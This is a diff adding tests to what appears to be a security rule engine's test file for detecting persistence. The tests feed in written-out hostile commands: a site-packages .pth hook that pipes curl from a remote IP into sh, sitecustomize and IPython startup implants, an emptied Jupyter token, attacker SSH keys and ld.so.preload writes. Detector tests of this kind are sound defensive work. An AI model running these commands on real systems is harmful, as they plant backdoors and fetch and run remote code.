@@ -1,7 +1,7 @@
 /**
  * `attrs.exec.persists` (exec-persistence.ts) over real canonical readings (exec-canonical.ts),
  * and MLS-RAY-016 / MLS-RAY-017 through the shipped rule set and the real engine: crontabs,
- * at jobs, systemd units, boot scripts, ld.so.preload, ssh keys and shell start-up files, written
+ * at jobs, systemd units, boot scripts, ld.so.preload, ssh keys, Python start-up hooks and shell start-up files, written
  * every way a script writes a file; reading them, listing them and backing them up install nothing.
  */
 import { describe, expect, it } from 'vitest';
@@ -42,6 +42,19 @@ describe('persistence', () => {
     expect(persists(sh('dd if=/tmp/p of=/etc/ld.so.preload'))).toEqual(['ld-preload']);
     expect(persists(sh('echo "ssh-ed25519 AAAA attacker" >> /root/.ssh/authorized_keys'))).toEqual(['authorized_keys']);
     expect(persists(sh('cd ~ && mkdir -p .ssh && cat /tmp/k.pub >> .ssh/authorized_keys'))).toEqual(['authorized_keys']);
+  });
+
+  it('reads Python start-up hooks: .pth and sitecustomize in site-packages, IPython startup files, Jupyter configs', () => {
+    expect(persists(sh(`echo 'import os; os.system("curl -s http://203.0.113.9/x | sh")' > /usr/local/lib/python3.10/site-packages/zz_init.pth`))).toEqual(['python-startup']);
+    expect(persists(sh('cp /tmp/evil.py /usr/lib/python3/dist-packages/sitecustomize.py'))).toEqual(['python-startup']);
+    expect(persists(sh('cd /opt/conda/lib/python3.11/site-packages && tee usercustomize.py < /tmp/x'))).toEqual(['python-startup']);
+    expect(persists(['python3', '-c', "open('/usr/local/lib/python3.10/site-packages/a.pth', 'w').write('import x')"])).toEqual(['python-startup']);
+    expect(persists(sh('mkdir -p ~/.ipython/profile_default/startup && cp /tmp/x.py ~/.ipython/profile_default/startup/00-init.py'))).toEqual(['python-startup']);
+    expect(persists(sh('echo "c.ServerApp.token = \'\'" >> /home/jovyan/.jupyter/jupyter_server_config.py'))).toEqual(['python-startup']);
+    // A module of a package, a .pth read or listed, a file beside site-packages: none (a library changed is MLS-POISON-011's).
+    expect(persists(sh('cp /tmp/p.py /usr/local/lib/python3.10/site-packages/transformers/modeling_utils.py'))).toEqual([]);
+    expect(persists(sh('cat /usr/local/lib/python3.10/site-packages/distutils-precedence.pth; ls /usr/lib/python3/dist-packages'))).toEqual([]);
+    expect(persists(sh('cp /tmp/x.pth /tmp/site-packages.pth.bak'))).toEqual([]);
   });
 
   it('reads shell start-up files, in the order written, each kind once', () => {
@@ -91,6 +104,7 @@ describe('MLS-RAY-016 and MLS-RAY-017 through the shipped rules', () => {
       sh('echo "[Service]\nExecStart=/tmp/k" > /etc/systemd/system/k.service && systemctl enable k'),
       sh('echo /tmp/libx.so > /etc/ld.so.preload'),
       sh('echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys'),
+      sh(`echo 'import os; os.system("nohup /tmp/.k &")' > /usr/local/lib/python3.10/site-packages/zz_init.pth`),
     ]) {
       expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-016');
       expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-RAY-016');
